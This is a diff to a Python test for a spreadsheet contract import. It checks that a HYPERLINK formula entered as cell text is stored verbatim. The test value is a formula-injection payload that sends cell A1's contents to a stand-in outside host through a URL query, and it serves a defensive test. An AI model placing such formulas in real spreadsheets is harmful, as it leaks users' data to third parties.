@@ -194,8 +194,9 @@ def _stored_object(store, reference: str) -> str:
 
 
 def test_hyperlink_formula_stored_as_text(store):
+    # A text cell that reads as a formula (a formula cell itself is read as its saved result).
     formula = '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")'
-    data = xlsx_bytes([CONTRACT_HEADER, contract_row(objet=formula)], title="marches")
+    data = xlsx_bytes([CONTRACT_HEADER, contract_row(objet=formula)], title="marches", formulas_as_text=True)
     report = run_import(store, FACILITATOR, "marches", data, "m.xlsx")
     assert report.ok and report.created == 1
     assert _stored_object(store, "K20") == formula
